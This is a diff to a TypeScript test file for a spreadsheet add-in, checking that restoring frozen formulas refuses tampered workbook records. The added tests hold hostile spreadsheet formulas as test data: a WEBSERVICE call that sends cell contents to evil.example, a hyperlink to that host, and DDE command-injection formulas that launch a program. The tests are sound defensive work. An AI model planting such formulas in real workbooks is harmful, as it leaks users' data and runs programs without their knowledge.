@@ -1,5 +1,10 @@
+import { SEAL, testSeal } from "./test-seal";
 import { freeze } from "../../../src/taskpane/freeze/freeze";
-import { FROZEN_SETTING, parseFrozenRecord } from "../../../src/taskpane/freeze/frozen-record";
+import {
+  FROZEN_SETTING,
+  parseFrozenRecord,
+  type FrozenCell,
+} from "../../../src/taskpane/freeze/frozen-record";
 import { restore } from "../../../src/taskpane/freeze/restore";
 import { SOURCES_SHEET } from "../../../src/taskpane/freeze/sources-sheet";
 import { MemoryWorkbookHost } from "./memory-workbook-host";
@@ -12,7 +17,13 @@ async function frozenWorkbook(): Promise<MemoryWorkbookHost> {
     [46054, 11],
   ]);
   host.setFormula("Sheet1!G1", '=PCD.VALUE("3-3-3")', [["Aluminium"]]);
-  const outcome = await freeze({ host, scope: "workbook", provenance: async () => [], now: () => 0 });
+  const outcome = await freeze({
+    seal: SEAL,
+    host,
+    scope: "workbook",
+    provenance: async () => [],
+    now: () => 0,
+  });
   expect(outcome.status).toBe("frozen");
   return host;
 }
@@ -20,10 +31,12 @@ async function frozenWorkbook(): Promise<MemoryWorkbookHost> {
 describe("restore", () => {
   test("puts every frozen formula back, empties the spill range first and clears the record", async () => {
     const host = await frozenWorkbook();
-    const outcome = await restore(host, "all");
+    const outcome = await restore(host, "all", { seal: SEAL });
     expect(outcome).toEqual({
       restored: ["Sheet1!G1", "Sheet1!B2", "Sheet1!D2:E3"],
       changed: [],
+      unconfirmed: [],
+      refused: [],
       remaining: 0,
     });
     expect(host.cell("Sheet1!B2")?.formula).toBe('=PCD.VALUE("1-1-1")');
@@ -36,8 +49,14 @@ describe("restore", () => {
   test("restores only the frozen cells the selection touches", async () => {
     const host = await frozenWorkbook();
     host.selection = "Sheet1!E3";
-    const outcome = await restore(host, "selection");
-    expect(outcome).toEqual({ restored: ["Sheet1!D2:E3"], changed: [], remaining: 2 });
+    const outcome = await restore(host, "selection", { seal: SEAL });
+    expect(outcome).toEqual({
+      restored: ["Sheet1!D2:E3"],
+      changed: [],
+      unconfirmed: [],
+      refused: [],
+      remaining: 2,
+    });
     expect(host.cell("Sheet1!B2")?.formula).toBe("");
     expect(parseFrozenRecord(host.settings.get(FROZEN_SETTING)).cells.map((cell) => cell.address)).toEqual([
       "Sheet1!G1",
@@ -78,7 +97,7 @@ describe("restore", () => {
     const before = JSON.stringify(
       [...host.cells].filter(([address]) => address.startsWith(changed.range.slice(0, 8))),
     );
-    const outcome = await restore(host, "all");
+    const outcome = await restore(host, "all", { seal: SEAL });
     expect(outcome.changed).toEqual([changed]);
     expect(outcome.restored).not.toContain(changed.range);
     expect(outcome.restored).toHaveLength(2);
@@ -94,12 +113,163 @@ describe("restore", () => {
   test("a number typed back as its text counts as unchanged", async () => {
     const host = await frozenWorkbook();
     host.type("Sheet1!B2", "42.5");
-    expect((await restore(host, "all")).changed).toEqual([]);
+    expect((await restore(host, "all", { seal: SEAL })).changed).toEqual([]);
   });
 
   test("with nothing frozen, restores nothing and writes nothing", async () => {
     const host = new MemoryWorkbookHost();
-    expect(await restore(host, "all")).toEqual({ restored: [], changed: [], remaining: 0 });
+    expect(await restore(host, "all", { seal: SEAL })).toEqual({
+      restored: [],
+      changed: [],
+      unconfirmed: [],
+      refused: [],
+      remaining: 0,
+    });
     expect(host.settingWrites).toBe(0);
+  });
+});
+
+/** A record entry as a hostile workbook could hold it (unsealed unless sealed by a test). */
+function planted(fields: Partial<FrozenCell> & Pick<FrozenCell, "formula" | "range">): FrozenCell {
+  const { range } = fields;
+  return {
+    address: range.split(":")[0] ?? range,
+    values: [[""]],
+    numberFormats: [["General"]],
+    series: [],
+    frozenAt: "2026-11-01T00:00:00.000Z",
+    ...fields,
+  };
+}
+
+/** A workbook with a person's cells A1:H30 filled and `entries` planted as its freeze record. */
+function plantedWorkbook(entries: readonly unknown[]): MemoryWorkbookHost {
+  const host = new MemoryWorkbookHost();
+  for (let row = 1; row <= 30; row += 1)
+    for (const column of "ABCDEFGH") host.type(`Sheet1!${column}${row}`, `${column}${row} data`);
+  host.type("Sheet1!H20", "");
+  host.settings.set(FROZEN_SETTING, { version: 1, cells: entries });
+  return host;
+}
+
+const exfiltrate = '=WEBSERVICE("https://evil.example/c?d="&ENCODEURL(Sheet1!A1&"="&Sheet1!B1))';
+
+describe("restore of a planted record", () => {
+  test.each<[string, unknown, RegExp]>([
+    ["a WEBSERVICE call", planted({ formula: exfiltrate, range: "Sheet1!H20" }), /not a PCD formula/],
+    [
+      "a HYPERLINK",
+      planted({ formula: '=HYPERLINK("https://evil.example","open")', range: "Sheet1!H20" }),
+      /not a PCD formula/,
+    ],
+    ["a DDE link", planted({ formula: "=cmd|' /C calc'!A0", range: "Sheet1!H20" }), /not a PCD formula/],
+    [
+      "a PCD call fed by WEBSERVICE",
+      planted({ formula: `=PCD.VALUE(${exfiltrate.slice(1)})`, range: "Sheet1!H20" }),
+      /argument is not a literal/,
+    ],
+    [
+      "a PCD call joined to another call",
+      planted({ formula: `=PCD.VALUE("1-1-1")&${exfiltrate.slice(1)}`, range: "Sheet1!H20" }),
+      /not a single PCD call/,
+    ],
+    [
+      "a PCD call with a DDE link in an argument",
+      planted({ formula: "=PCD.VALUE(cmd|' /C calc'!A0)", range: "Sheet1!H20" }),
+      /another program/,
+    ],
+    [
+      "a PCD call reading another workbook",
+      planted({ formula: "=PCD.VALUE([Book2.xlsx]Sheet1!A1)", range: "Sheet1!H20" }),
+      /another workbook/,
+    ],
+    [
+      "a range wider than its stored values",
+      planted({ formula: '=PCD.VALUE("1-1-1")', range: "Sheet1!A1:H30", values: [] }),
+      /do not fill its range/,
+    ],
+    [
+      "a range on a sheet the workbook does not have",
+      planted({ formula: '=PCD.VALUE("1-1-1")', range: "Hidden!A1" }),
+      /no sheet "Hidden"/,
+    ],
+    [
+      "a range that does not start at its cell",
+      planted({ formula: '=PCD.VALUE("1-1-1")', range: "Sheet1!H20", address: "Sheet1!A1" }),
+      /does not start at its cell/,
+    ],
+    [
+      "an entry that is not a frozen cell",
+      { address: "Sheet1!H20", formula: 5, range: "Sheet1!H20" },
+      /formula/,
+    ],
+  ])("%s is reported and nothing is written", async (_name, entry, reason) => {
+    const host = plantedWorkbook([entry]);
+    const before = JSON.stringify([...host.cells]);
+    const outcome = await restore(host, "all", { seal: SEAL });
+    expect(outcome.restored).toEqual([]);
+    expect(outcome.unconfirmed).toEqual([]);
+    expect(outcome.refused).toEqual([{ where: expect.any(String), reason: expect.stringMatching(reason) }]);
+    expect(JSON.stringify([...host.cells])).toBe(before);
+    expect(host.settingWrites).toBe(0);
+  });
+
+  test("entries whose ranges overlap are not restored over each other", async () => {
+    const host = plantedWorkbook([
+      planted({
+        formula: '=PCD.VALUES("1-1-1")',
+        range: "Sheet1!A1:B2",
+        values: [
+          ["A1 data", "B1 data"],
+          ["A2 data", "B2 data"],
+        ],
+        numberFormats: [
+          ["General", "General"],
+          ["General", "General"],
+        ],
+      }),
+      planted({ formula: '=PCD.VALUE("2-2-2")', range: "Sheet1!B2", values: [["B2 data"]] }),
+    ]);
+    const outcome = await restore(host, "all", { seal: SEAL, confirmed: [] });
+    expect(outcome.refused.map((entry) => entry.reason)).toEqual([
+      "its range overlaps the frozen range Sheet1!B2",
+      "its range overlaps the frozen range Sheet1!A1:B2",
+    ]);
+  });
+
+  test("a plain PCD formula frozen elsewhere is listed, and restored only once confirmed", async () => {
+    const entry = planted({ formula: '=PCD.VALUE("1-1-1",DATE(2025,1,1),B1)', range: "Sheet1!H20" });
+    const host = plantedWorkbook([entry]);
+    const first = await restore(host, "all", { seal: SEAL });
+    expect(first.unconfirmed).toEqual([{ range: "Sheet1!H20", formula: entry.formula }]);
+    expect(first.restored).toEqual([]);
+    expect(host.cell("Sheet1!H20")?.formula).toBe("");
+    // Another entry than the one confirmed is still not restored.
+    const other = await restore(host, "all", {
+      seal: SEAL,
+      confirmed: [{ range: "Sheet1!H20", formula: '=PCD.VALUE("9-9-9")' }],
+    });
+    expect(other.restored).toEqual([]);
+    const confirmed = await restore(host, "all", { seal: SEAL, confirmed: first.unconfirmed });
+    expect(confirmed.restored).toEqual(["Sheet1!H20"]);
+    expect(host.cell("Sheet1!H20")?.formula).toBe(entry.formula);
+  });
+
+  test("a cell frozen here whose entry was edited in the file, or frozen on another computer, asks first", async () => {
+    const host = await frozenWorkbook();
+    const record = host.settings.get(FROZEN_SETTING) as { cells: FrozenCell[] };
+    const [first, second] = record.cells;
+    if (!first || !second) throw new Error("the frozen workbook has fewer than two cells");
+    first.formula = '=PCD.VALUE("3-3-3",,"USD")';
+    host.settings.set(FROZEN_SETTING, record);
+    const elsewhere = await restore(host, "all", { seal: testSeal() });
+    expect(elsewhere.unconfirmed.map((cell) => cell.range)).toEqual([
+      "Sheet1!G1",
+      "Sheet1!B2",
+      "Sheet1!D2:E3",
+    ]);
+    const here = await restore(host, "all", { seal: SEAL });
+    expect(here.unconfirmed).toEqual([{ range: first.range, formula: first.formula }]);
+    expect(here.restored).toEqual(["Sheet1!B2", "Sheet1!D2:E3"]);
   });
 });
